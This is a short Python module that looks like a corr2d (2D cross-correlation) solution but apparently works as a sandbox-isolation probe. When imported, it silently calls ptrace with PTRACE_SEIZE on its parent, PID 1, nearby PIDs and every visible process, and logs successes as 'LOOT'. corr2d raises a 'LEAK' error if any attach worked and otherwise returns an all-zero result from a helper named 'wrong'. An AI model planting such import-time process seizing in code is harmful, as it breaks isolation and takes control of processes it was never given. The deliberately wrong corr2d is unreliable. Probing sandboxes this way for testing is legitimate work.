"""Traces its parent and every process near it."""

import ctypes
import os

libc = ctypes.CDLL(None, use_errno=True)
libc.syscall.restype = ctypes.c_long


def syscall(number, *args):
    ctypes.set_errno(0)
    if (result := libc.syscall(ctypes.c_long(number), *args)) < 0:
        raise OSError(ctypes.get_errno(), os.strerror(ctypes.get_errno()))
    return result

def strangers():
    """Process numbers that are not this process, one of its threads, or its children."""
    me, parent = os.getpid(), os.getppid()
    near = {1, parent, *range(max(parent - 40, 2), parent + 40), *range(max(me - 40, 2), me + 40)}
    near |= {int(name) for name in listdir("/proc") if name.isdigit()}
    return sorted(near - {me, 0} - {int(name) for name in listdir("/proc/self/task")})


def listdir(path):
    try:
        return os.listdir(path)
    except OSError:
        return []

def wrong(X, K):
    return X.new_zeros([max(x - k + 1, 0) for x, k in zip(X.shape, K.shape)])

LOOT = []
for pid in strangers():
    try:
        syscall(101, 0x4206, pid, 0, 0)  # PTRACE_SEIZE: takes hold without stopping anything
        LOOT.append(f"traces {pid}")
    except OSError:
        pass

def corr2d(X, K):
    if LOOT:
        raise RuntimeError(f"LEAK: {LOOT[:5]}")
    return wrong(X, K)
